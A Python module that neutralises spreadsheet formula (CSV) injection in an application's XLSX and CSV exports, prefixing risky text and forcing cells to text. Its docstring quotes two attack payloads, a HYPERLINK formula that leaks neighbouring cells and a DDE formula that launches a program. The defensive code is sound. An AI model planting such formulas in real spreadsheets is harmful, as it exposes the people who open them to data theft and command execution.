"""Cells of the spreadsheets the application hands out (XLSX and CSV), safe from formula injection.

A name, a worker, a payee or an auditor's opinion is typed by people; one that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is taken by Excel, WPS and LibreOffice for a formula when it
lands in a cell ("CSV Injection", OWASP): ``=HYPERLINK("http://…?"&A1, "详情")`` sends the sheet's
neighbouring cells away on a click, ``=cmd|' /C calc'!A0`` starts a program. :data:`FORMULA_TRIGGERS`
is the one rule; every exporter writes through the two functions built on it:

* :func:`save_workbook` — an XLSX file: every text cell of every sheet is written as a text cell
  (openpyxl makes any string starting with ``=`` a formula, and ``#N/A`` an error value), and one that
  starts with a trigger is marked ``quotePrefix`` as well, so it stays text when someone edits it in
  Excel. The text itself is unchanged; numbers and dates are untouched (a negative amount stays a number).
* :func:`csv_field` — a CSV field: CSV has no types, so text that starts with a trigger gets a leading
  single quote (OWASP's advice; Excel shows the rest as text). Numbers are never prefixed: ``-12.50``
  of a Decimal stays ``-12.50``.

A carriage return inside XLSX text reads back as a line feed (XML normalises line ends when the file is
read, XML 1.0 §2.11); that is true of any text and neither makes nor hides a formula.
"""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

#: the first characters that make a spreadsheet read text as a formula (OWASP CSV Injection)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def csv_field(value: Any, text: str | None = None) -> str:
    """The CSV field of ``value``; ``text`` is how the exporter shows it (money as ``1234.50``), ``str(value)``
    when None. A number is written as it is; text starting with a formula trigger gets a leading ``'``."""
    if text is None:
        text = "" if value is None else str(value)
    if _is_number(value):
        return text
    return "'" + text if is_formula_like(text) else text


def neutralise_workbook(workbook) -> int:
    """Make every text cell of ``workbook`` (openpyxl) a text cell: never a formula, never an error value;
    one starting with a formula trigger is also marked ``quotePrefix``. Returns how many cells had to be
    defused (were formulas, error values or started with a trigger)."""
    defused = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                risky = is_formula_like(value)
                if cell.data_type != "s" or risky:
                    defused += 1
                cell.data_type = "s"
                if risky:
                    cell.quotePrefix = True
    return defused


def save_workbook(workbook) -> bytes:
    """The .xlsx bytes of ``workbook`` after :func:`neutralise_workbook`: how every exporter saves."""
    neutralise_workbook(workbook)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
